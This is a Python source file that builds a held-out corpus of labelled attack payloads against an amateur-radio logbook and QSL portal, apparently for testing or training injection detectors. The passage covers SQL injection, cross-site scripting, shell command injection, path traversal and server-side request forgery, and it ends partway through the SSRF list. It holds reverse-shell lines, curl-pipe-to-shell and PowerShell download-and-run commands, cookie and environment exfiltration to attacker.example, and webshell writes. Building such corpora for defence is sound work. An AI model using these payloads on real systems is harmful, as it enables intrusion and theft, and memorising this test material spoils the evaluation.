"""Attack held-out corpus for the amateur-radio logbook / QSL portal theme.

Each value is a working payload against a vulnerable version of the portal that puts the
field where the class says: concatenated into SQL (callsign / grid / band / sort
filters), rendered into HTML without escaping (QSL card preview, log notes, map
popups), pasted into a shell line (rigctl, predict, QSL image conversion, export zip),
used as a file path (QSL image, export, TLE file), fetched as a URL (QSL image import,
callbook lookup, ADIF import from URL, DX-cluster host), evaluated by a server-side
template / expression / deserializer / XML parser / logger / spreadsheet, sent to
MongoDB as a query object, written into a log line / HTTP header / mail header / ADIF
or Cabrillo stream, or spliced into an LDAP filter / XPath query.

class = "<context>-<technique>[+<encoding>]"; context "plain" means no domain wrapper.
Most values are hand-written literals; a small share comes from template functions over
hand-written pools (domain prefixes x hand-written payload tails, and encoders applied
to hand-written payloads).  ADIF records are hand-written field lists; only the
<FIELD:len> prefixes are computed by adif().
"""

import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 7302
PREFIX = "ha73"
TARGETS = {"sqli": 77, "xss": 77, "cmdi": 72, "traversal": 52, "ssrf": 52, "code": 80,
           "nosqli": 27, "crlf": 31, "ldap-xpath": 22}


def adif(fields, eor=True):
    out = " ".join(f"<{k}:{len(v)}>{v}" for k, v in fields)
    return out + (" <EOR>" if eor else "")


# ---------------------------------------------------------------------------
# sqli
# ---------------------------------------------------------------------------
SQLI = [
    ("callsign-tautology", "DL1ABC' OR '1'='1"),
    ("callsign-tautology", "W1AW' OR 1=1-- -"),
    ("callsign-union_select", "XX9XX' UNION SELECT username,password_hash,NULL,NULL FROM users-- -"),
    ("callsign-union_select", "N0CALL' UNION ALL SELECT call,email,api_key,4 FROM members WHERE '1'='1"),
    ("freq-numeric_tautology", "14.074 OR 1=1"),
    ("freq-time_blind", "14.074 AND SLEEP(5)"),
    ("freq-stacked_time", "7.074;SELECT pg_sleep(10)--"),
    ("band-stacked", "20m'; DROP TABLE qso_log;--"),
    ("band-stacked", "40m'; UPDATE members SET is_admin=1 WHERE call='W1XYZ';--"),
    ("grid-boolean_blind", "JO62qm' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a'-- "),
    ("grid-boolean_blind", "FN42' AND ASCII(SUBSTR((SELECT api_token FROM stations WHERE call='W1AW'),1,1))>77--"),
    ("qslstatus-error_based", "N' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version)))-- -"),
    ("qslstatus-error_based", "Y' AND UPDATEXML(1,CONCAT(0x3a,(SELECT user())),1)#"),
    ("mode-error_based", "FT8' AND 1=CAST((SELECT string_agg(email,',') FROM members) AS int)--"),
    ("sort-order_by_case", "qso_date,(SELECT CASE WHEN (SELECT COUNT(*) FROM admins)>0 THEN call ELSE band END)"),
    ("sort-order_by_time", "time_on DESC,IF((SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='$',SLEEP(3),0)"),
    ("adif-insert_subquery", adif([("CALL", "DL1ABC"), ("BAND", "20m"),
                                   ("COMMENT", "tnx'),('ZZ9ZZ','20m',(SELECT group_concat(password) FROM users))-- ")])),
    ("adif-union_select", adif([("CALL", "X' UNION SELECT sql,name,3 FROM sqlite_master--"), ("BAND", "40m")])),
    ("qsonote-second_order", "nice sig'); DELETE FROM qsl_queue WHERE ('1'='1"),
    ("comment-insert_subquery", "tnx QSO', (SELECT password FROM users WHERE call='W1AW'), '599"),
    ("callsign-mssql_xp_cmdshell", "K1ABC'; EXEC xp_cmdshell 'ping -n 3 203.0.113.7';--"),
    ("callsign-mssql_oob_dirtree", "G4XYZ'; EXEC master..xp_dirtree '\\\\oob.attacker.example\\x';--"),
    ("callsign-mysql_oob_load_file", "EA4GHI' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\\\a'))-- -"),
    ("date-time_blind_subquery", "2024-03-12' AND (SELECT 1 FROM (SELECT SLEEP(7))x)-- -"),
    ("date-mssql_waitfor", "20240312'; WAITFOR DELAY '0:0:8'--"),
    ("rst-numeric_union", "599 UNION SELECT 1,group_concat(call||':'||password),3 FROM users"),
    ("dxcc-numeric_boolean", "230 AND (SELECT COUNT(*) FROM users WHERE is_admin=1)>0"),
    ("callsign-benchmark", "VK2DEF' AND BENCHMARK(50000000,SHA1('73'))-- "),
    ("callsign-sqlite_heavy_query", "JA1QRZ' AND 1=(SELECT CASE WHEN substr(sqlite_version(),1,1)='3' THEN randomblob(300000000) ELSE 1 END)--"),
    ("grid-oracle_union", "IO91' UNION SELECT banner,NULL FROM v$version--"),
    ("grid-oracle_error", "JN58' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("band-postgres_copy_program", "2m'; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/p|sh';--"),
    ("qsonote-into_outfile", "73' UNION SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/q.php'-- -"),
    ("callsign-json_operator", "W1AW' OR profile->>'role'='admin'--"),
    ("callsign-backslash_escape", "DL1ABC\\' OR 1=1-- -"),
    ("callsign-union_select+comment", "X'/**/UNION/**/SELECT/**/call,password/**/FROM/**/users--"),
    ("callsign-union_select+case", "x' uNiOn SeLeCt NuLl,ApI_kEy FrOm StAtIoNs-- -"),
    ("callsign-tautology+url", "DL1ABC%27%20OR%20%271%27%3D%271"),
    ("callsign-union_select+url2", "W1AW%2527%2520UNION%2520SELECT%2520password%252CNULL%2520FROM%2520users--"),
    ("grid-union_hex_string", "JO62' UNION SELECT 1,0x61646d696e,3-- "),
    ("callsign-char_function", "x' OR call=CHAR(87,49,65,87) AND '1'='1"),
    ("freq-union_select+versioned_comment", "14.074/*!50000UNION*//*!50000SELECT*/1,user(),3"),
    ("contest-serial_time", "001 AND 1=(SELECT 1 FROM pg_sleep(5))"),
    ("qsonote-multiline_stacked", "nice signal\n'); INSERT INTO admins(call) VALUES ('N0PE');--"),
    ("logsearch-information_schema", "DL%' UNION SELECT table_name,column_name FROM information_schema.columns-- -"),
    ("sort-procedure_analyse", "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x5c,version())),1)"),
    ("stationid-boolean_blind", "42 AND (SELECT substr(password,1,1) FROM users WHERE call='W1AW')='a'"),
    ("qslvia-double_quote_tautology", "M0OXO\" OR \"\"=\""),
    ("name-tautology+fullwidth", "Hans\uff07 OR \uff071\uff07=\uff071"),
    ("callsign-having_error", "W1AW' GROUP BY call HAVING 1=1--"),
    ("grid-like_wildcard_dump", "' OR gridsquare LIKE '%' OR '"),
    ("band-sqlite_attach", "6m'; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.p(d text); INSERT INTO x.p VALUES ('<?php system($_GET[0]);?>');--"),
    ("callsign-postgres_chr", "x' OR call=CHR(87)||CHR(49)||CHR(65)||CHR(87)--"),
    ("callsign-dollar_quote", "x' OR 1=1 UNION SELECT $$a$$,password FROM users--"),
    ("qslstatus-boolean_regexp", "N' AND (SELECT password FROM users WHERE id=1) REGEXP '^[a-f]'-- "),
    ("freq-limit_into_var", "14.074 LIMIT 1 INTO @a,@b,@c"),
    ("callsign-tautology+url", "VK2DEF%27%20or%20%27x%27%3D%27x"),
    ("logsearch-union_select+url", "%25%27%20UNION%20SELECT%20call%2Cpassword%20FROM%20users%23"),
    ("callsign-tautology+tab_newline", "W1AW'\tOR\n1\n=\n1\t#"),
    ("dxcc-numeric_union+comment", "230/**/UNION/**/ALL/**/SELECT/**/NULL,concat(call,0x3a,api_key),NULL/**/FROM/**/stations"),
    ("grid-boolean_blind+case", "JO62' aNd 1=(sElEcT 1 fRoM uSeRs WhErE cAlL='W1AW' aNd PaSsWoRd LiKe 'a%')-- "),
    ("plain-union_select", "' UNION SELECT NULL,NULL,NULL--"),
    ("plain-tautology", "' or 1=1#"),
    ("plain-time_blind", "1' AND SLEEP(5) AND '1'='1"),
    ("plain-stacked", "1; DROP TABLE users"),
    ("plain-error_based", "' AND 1=CONVERT(int,@@version)--"),
    ("plain-boolean_blind", "1 AND 1=2 UNION SELECT 1,2"),
    ("plain-oracle_time", "' || DBMS_PIPE.RECEIVE_MESSAGE('a',10) || '"),
]

SQLI_BASES = [("callsign", "DL1ABC/P"), ("callsign", "EA8/DL1ABC"), ("grid", "JO62qm"), ("grid", "FN31pr"),
              ("band", "20m"), ("mode", "FT8"), ("qslvia", "M0OXO"), ("logsearch", "VP8/G3ABC")]
SQLI_TAILS = [
    ("tautology", "' OR 'a'='a"),
    ("union_select", "' UNION SELECT call,password_hash FROM users-- -"),
    ("time_blind", "' AND SLEEP(6)-- -"),
    ("stacked", "'; DELETE FROM qso_log;--"),
    ("error_based", "' AND EXTRACTVALUE(0,CONCAT(0x7e,database()))-- -"),
    ("boolean_blind", "' AND (SELECT COUNT(*) FROM users)>3-- -"),
    ("mssql_waitfor", "'; WAITFOR DELAY '0:0:6'--"),
]


def tmpl_sqli(r):
    ctx, base = r.choice(SQLI_BASES)
    tech, tail = r.choice(SQLI_TAILS)
    v = base + tail
    if r.random() < 0.25:
        return f"{ctx}-{tech}+url", quote(v, safe="")
    return f"{ctx}-{tech}", v


# ---------------------------------------------------------------------------
# xss
# ---------------------------------------------------------------------------
XSS = [
    ("qslmsg-script_tag", "Tnx fer QSO! 73 <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("qsonote-img_onerror", "Nice sig from JO62 <img src=x onerror=alert(document.domain)>"),
    ("qth-svg_onload", "München <svg onload=alert(1)>"),
    ("name-attr_breakout", "Joe\" onmouseover=\"alert(document.cookie)\" x=\""),
    ("grid-attr_breakout_single", "JO62qm' autofocus onfocus='alert(1)"),
    ("website-javascript_url", "javascript:alert(document.cookie)//https://qrz.example/W1AW"),
    ("website-javascript_url+htmlent", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("website-javascript_url+tab", "java\tscript:alert(document.domain)"),
    ("website-data_url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgnNzMnKTwvc2NyaXB0Pg=="),
    ("qslmsg-iframe_srcdoc", "73 de F4KLM <iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    ("qsonote-details_ontoggle", "QSB deep <details open ontoggle=alert(1)>"),
    ("comment-body_onload", "<body onload=alert('QSO')>"),
    ("mappopup-script_breakout", "</script><script>alert(document.cookie)</script>"),
    ("mappopup-js_string_breakout", "DL1ABC';alert(document.cookie);//"),
    ("mappopup-js_string_breakout_double", "W1AW\";fetch('//attacker.example/'+localStorage.token);//"),
    ("mappopup-template_literal", "${alert(document.domain)}"),
    ("qslmsg-mxss_noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("qsonote-dangling_markup", "73 <img src='https://attacker.example/log?html="),
    ("qslmsg-base_hijack", "<base href=\"https://attacker.example/\">"),
    ("qslmsg-meta_refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/qsl-login\">"),
    ("qslmsg-form_hijack", "<form action=https://attacker.example/steal method=post><input name=password placeholder='LoTW password'><button>Confirm QSL</button></form>"),
    ("qsonote-input_autofocus", "<input autofocus onfocus=alert(1)>"),
    ("qsonote-video_source_onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("qslmsg-math_xlink", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>CLICK</maction></math>"),
    ("qslmsg-object_data", "<object data=\"javascript:alert(1)\"></object>"),
    ("qslmsg-embed_src", "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
    ("qsonote-marquee_onstart", "<marquee onstart=alert(1)>CQ CQ DE W1XYZ</marquee>"),
    ("callsign-svg_animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("callsign-svg_set_href", "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>QSL</text></a></svg>"),
    ("qsonote-style_import", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("qsonote-css_exfil", "<style>input[name=csrf][value^=a]{background:url(https://attacker.example/a)}</style>"),
    ("qslmsg-a_href_javascript", "<a href=\"javascript:fetch('//attacker.example/?c='+document.cookie)\">View my QSL card</a>"),
    ("qslmsg-a_href_entities", "<a href=\"jav&#x61;script&colon;alert(1)\">eQSL</a>"),
    ("markdown-link_javascript", "[Click for my QSL](javascript:alert(document.cookie))"),
    ("markdown-image_onerror", "![SWR plot](x\" onerror=\"alert(1))"),
    ("adif-comment_script", adif([("CALL", "DL1ABC"), ("COMMENT", "<script src=//attacker.example/x.js></script>")])),
    ("adif-name_img", adif([("CALL", "W1AW"), ("NAME", "<img src=1 onerror=alert(1)>")])),
    ("qslmsg-script_tag+case", "<ScRiPt>alert(String.fromCharCode(55,51))</sCrIpT>"),
    ("qslmsg-img_onerror+htmlent", "&lt;img src=x onerror=alert(1)&gt;"),
    ("qsonote-img_onerror+url", "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("qsonote-svg_onload+url2", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("mappopup-js_breakout+unicode", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("mappopup-js_string_breakout+hex", "\\x27;alert(1);//"),
    ("qsonote-script_tag+nested_strip", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("qsonote-event_handler+slash_separator", "<img/src=x/onerror=alert(1)>"),
    ("qsonote-event_handler+newline", "<img src=x\nonerror\n=\nalert(1)>"),
    ("qslmsg-event_handler_no_parens", "<img src=x onerror=alert`73`>"),
    ("qslmsg-eval_atob", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("qslmsg-onerror_throw", "<img src=x onerror=\"window.onerror=alert;throw 1\">"),
    ("qslmsg-svg_script_cdata", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("qsonote-textarea_breakout", "</textarea><script>alert(1)</script>"),
    ("qsonote-title_breakout", "</title><svg onload=alert(1)>"),
    ("sattelemetry-json_html", "{\"sat\":\"SO-50\",\"note\":\"<img src=x onerror=alert(1)>\"}"),
    ("qslmsg-angular_template", "{{constructor.constructor('alert(1)')()}}"),
    ("qslmsg-vue_template", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("qslmsg-iframe_javascript", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("qslmsg-srcset_onerror", "<img srcset=\",,,,x\" onerror=alert(1)>"),
    ("qslmsg-audio_onerror", "Hear my CQ: <audio src=x onerror=alert(1)>"),
    ("qsonote-keyframes_onanimation", "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=alert(1)>599</b>"),
    ("qsonote-popover_ontoggle", "<button popovertarget=p>QSL</button><div popover id=p ontoggle=alert(1)>x</div>"),
    ("plain-script_tag", "<script>alert(1)</script>"),
    ("plain-img_onerror", "<img src=x onerror=prompt(1)>"),
    ("plain-svg_onload", "<svg/onload=confirm(1)>"),
    ("plain-attr_breakout", "\"><script>alert(1)</script>"),
    ("plain-javascript_url", "javascript:alert(1)"),
    ("plain-iframe_src", "<iframe src=javascript:alert(1)>"),
    ("plain-body_onpageshow", "<body onpageshow=alert(1)>"),
]

XSS_PREFIXES = [("qslmsg", "Tnx fer QSO, 73! "), ("qsonote", "Worked on 14.074 FT8 -12 "), ("qth", "Alcalá de Henares "),
                ("name", "Siobhán "), ("callsign", "DL1ABC/P"), ("comment", "SWR 1.3:1 @ 50 Ω ")]
XSS_TAILS = [
    ("img_onerror", "<img src=q onerror=alert(document.cookie)>"),
    ("svg_onload", "<svg onload=fetch('//attacker.example/'+document.cookie)>"),
    ("script_tag", "<script>new Image().src='//attacker.example/?'+document.cookie</script>"),
    ("details_ontoggle", "<details open ontoggle=alert(document.domain)>"),
    ("attr_breakout", "\"><img src=x onerror=alert(1)>"),
    ("iframe_srcdoc", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>"),
]


def tmpl_xss(r):
    ctx, pre = r.choice(XSS_PREFIXES)
    tech, tail = r.choice(XSS_TAILS)
    if r.random() < 0.2:
        return f"{ctx}-{tech}+url", quote(pre + tail, safe="")
    return f"{ctx}-{tech}", pre + tail


# ---------------------------------------------------------------------------
# cmdi  (rigctl / predict / convert / zip / lpr / callbook lookup lines)
# ---------------------------------------------------------------------------
CMDI = [
    ("freq-semicolon", "14074000; id"),
    ("freq-pipe", "7074000 | cat /etc/passwd"),
    ("freq-and_chain", "14074000 && curl -s http://attacker.example/r.sh | sh"),
    ("freq-or_chain", "x || wget -q -O /tmp/.r http://203.0.113.9/r && sh /tmp/.r"),
    ("callsign-backtick", "DL1ABC`id`"),
    ("callsign-dollar_paren", "W1AW$(whoami)"),
    ("callsign-newline", "G4XYZ\nuname -a"),
    ("satname-semicolon", "SO-50; cat /etc/shadow"),
    ("satname-dollar_paren", "ISS $(curl -s http://attacker.example/$(hostname))"),
    ("satname-quote_break", "AO-91'; nc 203.0.113.5 4444 -e /bin/sh; echo '"),
    ("satname-double_quote_break", "RS-44\"; bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'; \""),
    ("qslimage-semicolon", "card.png; rm -rf /var/www/qsl/*"),
    ("qslimage-ifs", "card.png;cat${IFS}/etc/passwd"),
    ("qslimage-brace_expansion", "x.png;{cat,/etc/passwd}"),
    ("exportname-redirect_write", "log.adi; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKE attacker' >> ~/.ssh/authorized_keys"),
    ("exportname-argument_injection", "--output=/var/www/html/shell.php"),
    ("exportname-zip_TT", "log.zip -T -TT 'sh -c id>/tmp/pwn;'"),
    ("exportname-tar_checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("callbook-curl_config", "-K /etc/passwd"),
    ("callbook-curl_output", "W1AW -o /var/www/html/x.php http://attacker.example/x.txt"),
    ("labelprint-lpr_pipe", "DL1ABC | mail -s keys attacker@attacker.example < /etc/ssh/ssh_host_rsa_key"),
    ("grid-semicolon", "JO62qm;sleep 10"),
    ("grid-dollar_paren_time", "FN42$(sleep 7)"),
    ("grid-backtick_dns", "IO91`nslookup $(whoami).attacker.example`"),
    ("mode-python_c", "FT8; python3 -c 'import os;os.system(\"id\")'"),
    ("mode-perl_e", "CW; perl -e 'exec \"/bin/sh\"'"),
    ("band-base64_pipe", "20m; echo aWQ7dW5hbWUgLWE= | base64 -d | sh"),
    ("band-hex_printf", "40m;$(printf '\\x69\\x64')"),
    ("band-ansi_c_quote", "80m;$'\\x63\\x61\\x74' /etc/passwd"),
    ("callsign-quote_insertion", "K1ABC;c''at /e\"t\"c/pa''ss\"wd"),
    ("callsign-wildcard_glob", "K1ABC;/???/c?t /???/p??s??"),
    ("callsign-var_substring", "W1AW;cat${HOME:0:1}etc${HOME:0:1}passwd"),
    ("callsign-backslash_obfuscation", "W1AW;c\\a\\t /e\\tc/p\\a\\s\\s\\w\\d"),
    ("freq-windows_ampersand", "14074000 & type C:\\Windows\\win.ini"),
    ("freq-windows_pipe_powershell", "14074000 | powershell -nop -w hidden -c \"iwr http://attacker.example/a.ps1|iex\""),
    ("callsign-windows_comspec", "DL1ABC&%COMSPEC% /c whoami"),
    ("satname-windows_certutil", "SO-50 & certutil -urlcache -split -f http://attacker.example/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe"),
    ("qslimage-imagemagick_delegate", "|ls -la /etc"),
    ("qslimage-ssh_proxycommand", "-oProxyCommand=sh -c 'id > /tmp/o'"),
    ("rigmodel-find_exec", "3073 -exec sh -c 'id' ;"),
    ("rigdevice-semicolon", "/dev/ttyUSB0; chmod 777 /etc/passwd"),
    ("rigdevice-dollar_paren", "/dev/ttyUSB$(id>/tmp/q)0"),
    ("audiofile-newline", "qso_1432.wav\ncurl http://attacker.example/$(id|base64)"),
    ("audiofile-sox_pipe", "rec.wav |nc 203.0.113.5 9001 </etc/passwd"),
    ("callsign-rsync_e", "-e sh -c 'id>/tmp/x' x:"),
    ("callsign-git_upload_pack", "--upload-pack=touch /tmp/pwned"),
    ("tlefile-env_exfil", "x; env | curl -d @- http://attacker.example/env"),
    ("clusterhost-semicolon", "dxc.example.org 7300; /bin/busybox telnetd -l /bin/sh -p 9999"),
    ("callsign-background_amp", "DL1ABC & sleep 9 &"),
    ("freq-dollar_var_cmd", "14074000;a=i;b=d;$a$b"),
    ("freq-semicolon+url", "14074000%3B%20id"),
    ("callsign-dollar_paren+url", "W1AW%24%28id%29"),
    ("freq-newline+url", "14074000%0Acat%20%2Fetc%2Fpasswd"),
    ("satname-pipe+url2", "SO-50%257Cid"),
    ("callsign-ifs_tab", "W1AW;cat\t/etc/passwd"),
    ("callsign-rev_cmd", "W1AW;$(rev<<<'dwssap/cte/ tac')"),
    ("callsign-tr_case", "W1AW;$(echo CAT /ETC/PASSWD | tr A-Z a-z)"),
    ("freq-process_substitution", "14074000 <(curl -s http://attacker.example/x)"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| whoami"),
    ("plain-backtick", "`uname -a`"),
    ("plain-dollar_paren", "$(cat /etc/passwd)"),
    ("plain-and_chain", "&& ping -c 5 198.51.100.3"),
    ("plain-windows_pipe", "| net user"),
    ("plain-newline", "\nid\n"),
]

CMDI_BASES = [("freq", "14074000"), ("callsign", "DL1ABC"), ("satname", "SO-50"), ("grid", "JO62qm"),
              ("qslimage", "qsl_W1AW.png"), ("band", "20m")]
CMDI_TAILS = [
    ("semicolon", "; cat /etc/passwd"),
    ("pipe", " | id"),
    ("dollar_paren", "$(curl -s attacker.example/i|sh)"),
    ("backtick", "`wget -qO- 203.0.113.8/s|sh`"),
    ("and_chain", " && sleep 8"),
    ("newline", "\nnc -e /bin/sh 198.51.100.7 4444"),
]


def tmpl_cmdi(r):
    ctx, base = r.choice(CMDI_BASES)
    tech, tail = r.choice(CMDI_TAILS)
    return f"{ctx}-{tech}", base + tail


# ---------------------------------------------------------------------------
# traversal
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("qslimage-dotdot", "../../../../etc/passwd"),
    ("qslimage-dotdot", "cards/../../../../../home/ham/.ssh/id_rsa"),
    ("exportfile-dotdot_env", "../../.env"),
    ("exportfile-absolute", "/etc/shadow"),
    ("logfile-absolute_proc", "/proc/self/environ"),
    ("logfile-dotdot_proc_cwd", "../../../../proc/self/cwd/config/settings.py"),
    ("qslimage-dotdot+url", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("qslimage-dotdot+url2", "..%252F..%252F..%252F..%252Fetc%252Fpasswd"),
    ("qslimage-dotdot+overlong", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("qslimage-dotdot+overlong_slash", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("qslimage-dotdot+url_dots", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
    ("exportfile-backslash_windows", "..\\..\\..\\..\\Windows\\win.ini"),
    ("exportfile-mixed_slashes", "..\\/..\\/..\\/etc/passwd"),
    ("exportfile-absolute_windows", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("qslimage-strip_once_bypass", "....//....//....//....//etc/passwd"),
    ("qslimage-strip_once_backslash", "....\\\\....\\\\....\\\\boot.ini"),
    ("qslimage-null_byte+url", "../../../../etc/passwd%00.png"),
    ("qslimage-fullwidth_dots+unicode", "\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd"),
    ("template-php_filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("template-file_scheme", "file:///etc/passwd"),
    ("tlefile-dotdot", "tle/../../../../../var/log/nginx/access.log"),
    ("tlefile-dotdot_private_key", "../../../../etc/ssl/private/server.key"),
    ("lang-dotdot", "../../../../../../etc/passwd"),
    ("lang-dotdot_locale", "de_DE/../../../../../proc/self/fd/3"),
    ("avatar-zipslip", "../../../../var/www/html/shell.php"),
    ("adifimport-zipslip_entry", "logs/../../../../../../home/ham/.bashrc"),
    ("audiofile-dotdot_db", "recordings/../../instance/app.db"),
    ("qslimage-tomcat_path_param", "..;/..;/WEB-INF/web.xml"),
    ("exportfile-unc_path", "\\\\attacker.example\\share\\log.adi"),
    ("qslimage-dotdot_trailing_dot", "../../../../etc/passwd/."),
    ("qslimage-dotdot_git", "../../.git/config"),
    ("rigprofile-dotdot_aws", "../../../../root/.aws/credentials"),
    ("rigprofile-absolute_home", "/home/ham/.netrc"),
    ("backupfile-dotdot_windows_sam", "..\\..\\..\\..\\Windows\\System32\\config\\SAM"),
    ("qslimage-dotdot+url_backslash", "..%5c..%5c..%5c..%5cwindows%5cwin.ini"),
    ("qslimage-dotdot+url_mixed_case", "%2E%2e%2F%2e%2E%2f%2E%2E%2fetc%2Fpasswd"),
    ("qslimage-dotdot+unicode_slash", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("qslimage-dotdot+url_double_dot", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("logfile-proc_cmdline", "/proc/1/cmdline"),
    ("logfile-dotdot_ssh_hostkey", "../../../etc/ssh/ssh_host_ed25519_key"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-absolute", "/etc/passwd"),
    ("plain-backslash", "..\\..\\..\\boot.ini"),
    ("plain-url_encoded+url", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("plain-k8s_token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
]

TRAV_BASES = [("qslimage", "cards/W1AW/"), ("exportfile", "exports/2024/"), ("tlefile", "tle/"),
              ("audiofile", "rec/2024-03-12/"), ("lang", "i18n/de/")]
TRAV_TAILS = [("dotdot", "../../../../etc/passwd"), ("dotdot", "../../../../../root/.bash_history"),
              ("dotdot", "../../../.env"), ("dotdot", "../../../../etc/group"),
              ("dotdot_windows", "..\\..\\..\\..\\inetpub\\wwwroot\\web.config")]


def tmpl_traversal(r):
    ctx, base = r.choice(TRAV_BASES)
    tech, tail = r.choice(TRAV_TAILS)
    if r.random() < 0.3:
        return f"{ctx}-{tech}+url", quote(base + tail, safe="")
    return f"{ctx}-{tech}", base + tail


# ---------------------------------------------------------------------------
# ssrf
# ---------------------------------------------------------------------------
SSRF = [
    ("qslimageurl-aws_metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("qslimageurl-aws_imds_userdata", "http://169.254.169.254/latest/user-data"),
    ("callbookurl-gcp_metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("callbookurl-azure_metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("adifurl-localhost_admin", "http://localhost:8080/admin/users/export"),
    ("adifurl-loopback", "http://127.0.0.1:5000/internal/debug"),
    ("qslimageurl-decimal_ip", "http://2130706433/admin"),
    ("qslimageurl-hex_ip", "http://0x7f000001:8000/"),
    ("qslimageurl-octal_ip", "http://0177.0.0.01/server-status"),
    ("qslimageurl-short_ip", "http://127.1:6379/"),
    ("qslimageurl-ipv6_loopback", "http://[::1]:9200/_cat/indices"),
    ("qslimageurl-ipv4_mapped_ipv6", "http://[::ffff:127.0.0.1]:8500/v1/agent/self"),
    ("qslimageurl-zero_ip", "http://0.0.0.0:2375/containers/json"),
    ("callbookurl-dns_rebinding", "http://rebind-127-0-0-1.attacker.example:8080/admin"),
    ("callbookurl-userinfo_confusion", "http://qrz.example.com@169.254.169.254/latest/meta-data/"),
    ("callbookurl-backslash_confusion", "http://attacker.example\\@127.0.0.1:8080/"),
    ("callbookurl-fragment_confusion", "http://127.0.0.1:8080#@qrz.example.com/W1AW"),
    ("adifurl-gopher_redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20%2Fvar%2Fwww%2Fhtml%0D%0ACONFIG%20SET%20dbfilename%20x.php%0D%0ASET%20p%20%22%3C%3Fphp%20system(%24_GET%5B0%5D)%3B%3F%3E%22%0D%0ASAVE%0D%0A"),
    ("adifurl-gopher_smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cqsl%40club.example%3E%0D%0ARCPT%20TO%3A%3Cvictim%40example.org%3E%0D%0ADATA%0D%0ASubject%3A%20QSL%0D%0A%0D%0Apwn%0D%0A.%0D%0A"),
    ("adifurl-dict_scheme", "dict://127.0.0.1:11211/stats"),
    ("adifurl-file_scheme", "file:///proc/self/environ"),
    ("adifurl-ftp_internal", "ftp://10.0.0.5/backup/members.sql"),
    ("callbookurl-ldap_scheme", "ldap://127.0.0.1:389/dc=club,dc=example??sub?(objectClass=*)"),
    ("qslimageurl-open_redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("qslimageurl-alibaba_metadata", "http://100.100.100.200/latest/meta-data/"),
    ("qslimageurl-kubelet", "https://10.0.0.1:10250/pods"),
    ("qslimageurl-docker_api", "http://172.17.0.1:2375/images/json"),
    ("tleurl-internal_host", "http://redis:6379/"),
    ("tleurl-internal_service", "http://admin.internal:8000/api/keys"),
    ("webhook-private_range", "http://192.168.1.1/cgi-bin/luci"),
    ("webhook-private_10", "http://10.10.0.12:8080/actuator/env"),
    ("qslimageurl-enclosed_alnum+unicode", "http://\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3:8080/admin"),
    ("qslimageurl-url_encoded_host+url", "http://%31%32%37%2e%30%2e%30%2e%31/admin"),
    ("qslimageurl-mixed_octal_hex+alt_ip", "http://0x7f.0.0.0x1/"),
    ("qslimageurl-dotted_decimal_aws+alt_ip", "http://2852039166/latest/meta-data/"),
    ("qslimageurl-hex_aws+alt_ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("qslimageurl-ipv6_mapped_aws", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
